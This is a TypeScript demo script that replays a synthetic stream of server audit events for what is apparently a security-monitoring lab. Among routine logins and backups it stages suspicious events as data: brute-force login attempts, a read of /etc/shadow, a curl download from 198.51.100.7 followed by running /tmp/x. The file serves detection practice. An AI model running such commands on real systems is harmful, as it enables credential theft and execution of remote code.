import type { Lab } from './lab';
import {
  connected,
  fileOpened,
  loggedIn,
  programStarted,
  serviceStarted,
  sudoRan,
  userAdded,
  type Account,
  type Doing,
  type Stamp,
} from './records';

const anna: Account = [1000, 'anna'];
const boris: Account = [1001, 'boris'];
const backup: Account = [34, 'backup'];
const root: Account = [0, 'root'];

type Scene = (stamp: Stamp, doing: (login: Account, as?: Account) => Doing) => string[];

/** A morning on a small server: mostly dull, as real ones are, with two or three things that one should look at. */
const scenes: readonly Scene[] = [
  (stamp) => loggedIn(stamp, 2210, anna, '192.0.2.17', 'success'),
  (stamp, by) => programStarted(stamp, by(anna), ['/usr/bin/ls', '-la', '/srv/www'], 'exec'),
  (stamp, by) => sudoRan(stamp, by(anna), 'systemctl restart nginx'),
  (stamp) => serviceStarted(stamp, 'nginx'),
  (stamp, by) => programStarted(stamp, by(backup), ['/usr/bin/rsync', '-a', '/srv/www/', 'backup:/srv/www/'], 'exec'),
  (stamp, by) => fileOpened(stamp, by(anna, root), ['/usr/bin/vi', '/etc/passwd'], '/etc/passwd', 3, 'identity'),
  (stamp) => loggedIn(stamp, 2290, [0, 'admin'], '203.0.113.9', 'failed'),
  (stamp) => loggedIn(stamp, 2291, [0, 'oracle'], '203.0.113.9', 'failed'),
  (stamp) => loggedIn(stamp, 2292, boris, '192.0.2.40', 'success'),
  (stamp, by) => fileOpened(stamp, by(boris), ['/usr/bin/cat', '/etc/shadow'], '/etc/shadow', -13, 'access'),
  (stamp, by) => programStarted(stamp, by(boris), ['/usr/bin/grep', '-r', 'pass word', '/home/boris/notes'], 'exec'),
  (stamp, by) =>
    connected(stamp, by(boris), ['/usr/bin/curl', '-s', 'http://198.51.100.7/x'], '198.51.100.7', 80, 'net'),
  (stamp, by) => programStarted(stamp, by(boris), ['/tmp/x', '--quiet'], 'exec'),
  (stamp, by) => userAdded(stamp, by(anna, root), 'clara'),
  (stamp, by) =>
    fileOpened(stamp, by(anna, root), ['/usr/bin/vi', '/etc/ssh/sshd_config'], '/etc/ssh/sshd_config', 3, 'sshd'),
];

const pause = 1200;

/** Feeds an event every second or so, from each sender in turn, until the returned function is called. */
export function startDemo(lab: Pick<Lab, 'senders'>): () => Promise<void> {
  let scenesPlayed = 0;
  const timer = setInterval(() => {
    const turn = scenesPlayed++;
    const sender = lab.senders[turn % lab.senders.length];
    const scene = scenes[turn % scenes.length];
    const doing = (login: Account, as: Account = login): Doing => ({
      login,
      as,
      session: 2 + (login[0] % 7),
      pid: 3000 + turn * 3,
    });
    // A sender that has just been stopped misses a scene; nobody waits for it.
    if (sender && scene) play(sender, (stamp) => scene(stamp, doing)).catch(() => {});
  }, pause);
  timer.unref();
  return () => {
    clearInterval(timer);
    return Promise.resolve();
  };
}

/** In the same row of serials as the host's logins, which its pretended kernel records. */
async function play(sender: Lab['sender'], scene: (stamp: Stamp) => string[]): Promise<void> {
  await sender.feed(scene({ time: Date.now(), serial: await sender.kernel.nextSerial() }));
}
